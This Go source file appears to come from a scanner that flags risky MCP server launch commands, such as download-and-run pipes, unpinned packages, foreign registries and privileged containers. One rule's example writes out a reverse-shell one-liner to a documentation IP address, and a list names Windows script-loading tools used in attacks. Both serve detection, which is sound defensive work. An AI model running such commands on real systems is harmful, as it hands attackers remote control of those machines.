package detect

import (
	"strings"

	"github.com/mcp-watchdog/mcp-watchdog/internal/finding"
	"github.com/mcp-watchdog/mcp-watchdog/internal/launch"
	"github.com/mcp-watchdog/mcp-watchdog/internal/shell"
)

// suspicious_launch: commands that start more than a server. A configuration
// file is easily planted (by a repository, a link, an installer), and what it
// names runs with the user's rights before any message is exchanged.

var (
	suspiciousLaunch = &finding.Rule{
		ID: "suspicious_launch", Class: "supply_chain", Severity: finding.Medium,
		Title:     "the command starts a server in a way that deserves a look",
		Catches:   "Programs that are downloaded and run at every start (curl | sh), packages from an address instead of a registry, other registries, containers with more rights than a server needs (--privileged, the host's files, network, processes or the engine's socket), variables that make programs load foreign code (NODE_OPTIONS, LD_PRELOAD, ...), root rights, and programs that every user of the machine can replace.",
		Example:   "docker run -i --rm --privileged -v /:/host example/server",
		Misses:    "What a program does once it runs, and scripts that hide what they do behind variables of their own.",
		Exception: "It is an alert and nothing is stopped, except in strict mode. To have less to look at, pin what is fetched: an exact version, a commit (...@COMMIT), an image digest.",
	}
	hostileLaunch = &finding.Rule{
		ID: "hostile_launch", Class: "supply_chain", Severity: finding.Critical,
		Title:     "the command opens a back door or hides what it runs",
		Catches:   "Commands that connect a shell to the network, decode a program and run it, send secrets away, or have Windows tools fetch and run scripts. The server is not started.",
		Example:   `bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"`,
		Misses:    "Programs that do the same in their own code.",
		Exception: "None is needed for a server. To see what would happen without a stop, run in monitor mode.",
	}
)

func detectSuspiciousLaunch(t *Text) {
	l, ok := launch.Read(t.Text())
	if !ok {
		return
	}
	spec := launch.Understand(l.Command)
	j := launchJudge{l: &l, spec: &spec}
	j.script()
	j.prefix()
	j.source()
	j.registry()
	j.container()
	j.environment()
	j.files()
	for i, r := range j.found {
		if i == maxLaunchFindings {
			break
		}
		rule := suspiciousLaunch
		if r.severity >= finding.High {
			rule = hostileLaunch
		}
		t.Report(finding.Finding{Rule: rule, Severity: r.severity, Why: r.why, Seen: finding.Mask(clip(r.seen, 400))}, nil, "")
	}
}

// maxLaunchFindings bounds what is said about one command.
const maxLaunchFindings = 16

// launchJudge collects what is wrong with a command.
type launchJudge struct {
	l     *launch.Launch
	spec  *launch.Spec
	found []launchReason
}

type launchReason struct {
	severity  finding.Severity
	why, seen string
}

func (j *launchJudge) say(s finding.Severity, why, seen string) {
	j.found = append(j.found, launchReason{s, why, seen})
}

// maxScript bounds how much of a script is judged.
const maxScript = 64 << 10

// script judges what the command would do, as a shell reads it.
func (j *launchJudge) script() {
	text := clip(commandLine(j.l.Command), maxScript)
	acts := shell.Judge(text)
	if j.spec.Shell == "cmd" { // which quotes nothing
		acts = append(acts, shell.Judge(clip(j.spec.Script, maxScript))...)
	}
	worst := launchReason{}
	for _, a := range acts {
		severity, why := finding.Medium, "the command would do more than start a server: "+a.Why
		switch {
		case a.Level < shell.Bad && a.Kind != shell.ReverseShell && a.Kind != shell.Disguise:
			continue // ordinary people do it now and then
		case a.Kind == shell.Misuse && j.spec.Source == launch.OCI:
			continue // see container
		case a.Kind == shell.DownloadRun && !loader(j.l.Command):
			why = "the command downloads a program and runs it at every start; install it once, and look at it, instead"
		case a.Kind == shell.ReverseShell, a.Kind == shell.Disguise, a.Kind == shell.DownloadRun, a.Level == shell.Worst:
			severity = finding.Critical
		}
		if severity > worst.severity {
			worst = launchReason{severity, why, text}
		}
	}
	if worst.why != "" {
		j.found = append(j.found, worst)
	}
}

// loader reports whether one of the tools of Windows that fetch and run scripts
// is called, for which servers have no use.
func loader(command []string) bool {
	for _, w := range command {
		for part := range strings.FieldsSeq(clip(w, maxScript)) {
			switch launch.Base(part) {
			case "mshta", "regsvr32", "rundll32", "certutil", "bitsadmin", "wmic", "installutil", "msbuild", "cmstp":
				return true
			}
		}
	}
	return false
}

// commandLine writes words so that a shell reads them as they are.
func commandLine(words []string) string {
	var b strings.Builder
	for i, w := range words {
		if i > 0 {
			b.WriteByte(' ')
		}
		if w != "" && strings.Trim(w, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-./=:@%+,") == "" {
			b.WriteString(w)
			continue
		}
		b.WriteString("'" + strings.ReplaceAll(w, "'", `'\''`) + "'")
	}
	return b.String()
}

// prefix judges what stands in front of the server's own command.
func (j *launchJudge) prefix() {
	for _, w := range j.spec.Prefix {
		if b := launch.Base(w); b == "sudo" || b == "doas" || b == "runas" {
			j.say(finding.Medium, "the server is started with the rights of root", w)
		}
	}
	low := strings.ToLower(strings.Join(j.l.Command, " "))
	if strings.Contains(low, "powershell") || strings.Contains(low, "pwsh") {
		if strings.Contains(low, "-windowstyle hidden") || strings.Contains(low, "-w hidden") {
			j.say(finding.Medium, "the command hides its window", low)
		}
	}
}

// forges are where repositories are kept; what comes from there is as good as
// its owner.
var forges = []string{"github.com/", "gitlab.com/", "bitbucket.org/", "codeberg.org/"}

// source judges packages that come from an address.
func (j *launchJudge) source() {
	for _, p := range j.spec.Packages {
		low := strings.ToLower(p)
		if i := strings.Index(low, " @ "); i >= 0 { // name @ address (PEP 508)
			low = low[i+3:]
		}
		rest := strings.TrimPrefix(low, "git+")
		secure := strings.HasPrefix(rest, "https://") || strings.HasPrefix(rest, "ssh://") || strings.HasPrefix(rest, "git@")
		_, address, _ := strings.Cut(rest, "://")
		if at := strings.IndexByte(address, '@'); at >= 0 && !strings.Contains(address[:at], "/") {
			address = address[at+1:]
		}
		forge := false
		for _, f := range forges {
			forge = forge || strings.HasPrefix(address, f) || strings.HasPrefix(rest, "git@"+strings.TrimSuffix(f, "/"))
		}
		short := strings.HasPrefix(low, "github:") || strings.HasPrefix(low, "gitlab:") || j.spec.Source == launch.Address && !strings.Contains(low, ":") && strings.Count(low, "/") == 1 && low[0] != '.' && low[0] != '/' && low[0] != '~'
		switch {
		case strings.HasPrefix(rest, "http://") && !localHost(address), strings.HasPrefix(rest, "git://"):
			j.say(finding.Medium, "the package is fetched over a connection that anybody on the way can change", p)
		case pinnedCommit(low):
		case secure && !forge && !localHost(address):
			j.say(finding.Medium, "the package is fetched from an address instead of a registry", p)
		case strings.Contains(low, "gist.github") || strings.HasPrefix(low, "gist:") || strings.Contains(low, "/releases/download/"), strings.HasSuffix(low, ".tgz") && secure, strings.HasSuffix(low, ".tar.gz") && secure, strings.HasSuffix(low, ".zip") && secure:
			j.say(finding.Medium, "the package is fetched as an archive from an address instead of a registry", p)
		case forge || short:
			j.say(finding.Low, "the package is whatever its repository holds at the time of the start; pin it with @COMMIT", p)
		}
	}
}

// pinnedCommit reports whether an address names a commit by its full hash.
func pinnedCommit(address string) bool {
	i := strings.LastIndexAny(address, "@#")
	if i < 0 {
		return false
	}
	hash := address[i+1:]
	if k := strings.IndexByte(hash, '#'); k >= 0 {
		hash = hash[:k]
	}
	if len(hash) < 40 {
		return false
	}
	for _, c := range []byte(hash[:40]) {
		if (c < '0' || c > '9') && (c < 'a' || c > 'f') {
			return false
		}
	}
	return true
}

// localHost reports whether an address begins with this machine.
func localHost(address string) bool {
	for _, h := range []string{"localhost", "127.0.0.1", "[::1]", "host.docker.internal"} {
		if rest, ok := strings.CutPrefix(address, h); ok && (rest == "" || rest[0] == ':' || rest[0] == '/') {
			return true
		}
	}
	return false
}

// registries are those that package managers use by themselves, and their
// public mirrors.
var registries = []string{"registry.npmjs.org", "registry.yarnpkg.com", "npm.pkg.github.com", "npm.jsr.io", "registry.npmmirror.com",
	"pypi.org", "test.pypi.org", "files.pythonhosted.org", "pypi.tuna.tsinghua.edu.cn", "mirrors.aliyun.com", "download.pytorch.org"}

func (j *launchJudge) registry() {
	for _, flag := range []string{"--registry", "--index-url", "--default-index", "--extra-index-url", "--index", "-i", "--find-links", "--userconfig"} {
		if value, ok := launch.FlagValue(j.spec.Flags, flag); ok && j.spec.Source != launch.OCI && j.spec.Source != launch.Program {
			j.otherRegistry(value)
		}
	}
	if value, ok := launch.FlagValue(j.spec.Flags, "--index-strategy"); ok && strings.HasPrefix(value, "unsafe") {
		j.say(finding.Medium, "packages may come from any of several registries, whoever has the higher version", value)
	}
}

func (j *launchJudge) otherRegistry(value string) {
	_, address, ok := strings.Cut(strings.ToLower(value), "://")
	if !ok {
		return // a file, or no address at all
	}
	if localHost(address) {
		return
	}
	for _, r := range registries {
		if rest, ok := strings.CutPrefix(address, r); ok && (rest == "" || rest[0] == '/' || rest[0] == ':') {
			return
		}
	}
	j.say(finding.Medium, "the package is asked for from another registry than the public one", value)
}

// clip bounds what is masked.
func clip(s string, n int) string { return s[:runeStart(s, min(len(s), n))] }
